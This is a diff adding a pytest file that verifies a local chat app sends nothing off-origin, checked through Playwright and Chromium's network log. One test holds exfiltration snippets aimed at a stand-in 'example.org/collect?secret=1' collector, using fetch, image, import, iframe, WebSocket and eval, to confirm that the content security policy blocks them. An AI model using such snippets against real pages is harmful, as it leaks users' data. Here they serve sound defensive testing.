@@ -1,0 +1,81 @@
+"""The promise that nothing leaves: what a whole conversation asks for, seen by Playwright and by
+the browser's own network log, and what happens to code that tries to get out."""
+
+import json
+import re
+
+import pytest
+
+from onglet_build import browser as browsers
+from onglet_build.driver import App
+
+FORBIDDEN = "https://example.org/collect?secret=1"
+
+
+def test_a_conversation_asks_nobody_else(app_page, watch, server):
+    app_page.ask("What is the capital of France?")
+    app_page.ask("And what is two plus two?")
+    app_page.page.locator("[data-key=silence]").click()
+    assert app_page.shows("silence.none")
+    assert watch.requests > 10
+    assert watch.off_origin == []
+    assert app_page.page.evaluate("() => policyViolations") == []
+    assert app_page.window()["ledger"]["off_origin_requests"] == 0
+    answered = [status for _, _, status in server.log]
+    assert set(answered) <= {200, 206}
+
+
+def test_the_browsers_own_log_names_no_other_host(server, tmp_path):
+    """Independent of Playwright: Chromium writes down every request of every worker."""
+    log = tmp_path / "net.json"
+    with browsers.chromium(f"--log-net-log={log}") as running:
+        page = running.new_page()
+        App(page, server.url).open().wait_live().ask("What is the capital of France?")
+    assert hosts_asked_for_pages(json.loads(log.read_text()), server.origin) == {"127.0.0.1"}
+
+
+def hosts_asked_for_pages(log: dict, origin: str) -> set[str]:
+    """Hosts of all requests that a page of `origin` or one of its workers started."""
+    hosts = set()
+    for event in log["events"]:
+        parameters = event.get("params", {})
+        url, initiator = parameters.get("url", ""), parameters.get("initiator", "")
+        if initiator.rstrip("/") == origin and (found := re.match(r"\w+://([^/:]+)", url)):
+            hosts.add(found[1])
+    return hosts
+
+
+@pytest.mark.parametrize(
+    "act",
+    [
+        "() => fetch(FORBIDDEN).then(() => 'sent', () => 'blocked')",
+        "() => { const image = new Image(); image.src = FORBIDDEN; return image.decode()"
+        ".then(() => 'sent', () => 'blocked') }",
+        "() => import(FORBIDDEN).then(() => 'sent', () => 'blocked')",
+        "() => { try { new WebSocket('wss://example.org/'); return 'sent' }"
+        " catch { return 'blocked' } }",
+        "() => { try { return eval('\"sent\"') } catch { return 'blocked' } }",
+        "() => { const frame = document.createElement('iframe'); frame.src = FORBIDDEN;"
+        " document.body.append(frame); return 'blocked' }",
+    ],
+    ids=["fetch", "image", "import", "websocket", "eval", "frame"],
+)
+def test_forbidden_acts_violate_the_policy(open_app, server, watch, act):
+    """The other half of '0 violations': the policy is there, and violations are seen."""
+    app = open_app(server).wait_live()
+    before = len(app.page.evaluate("() => policyViolations"))
+    act = act.replace("FORBIDDEN", json.dumps(FORBIDDEN))
+    if "WebSocket" not in act:
+        assert app.page.evaluate(act) == "blocked"
+    else:
+        app.page.evaluate(act)
+    app.page.wait_for_function("n => policyViolations.length > n", arg=before)
+    assert not [path for _, path, _ in server.log if "secret" in path]
+    watch.off_origin.clear()
+    watch.violations.clear()
+    watch.errors.clear()
+
+
+def test_the_page_has_no_peer_connections(app_page):
+    """The one way out that no policy closes (facts/browser.md section 2) is taken away."""
+    assert app_page.page.evaluate("() => typeof RTCPeerConnection") == "undefined"
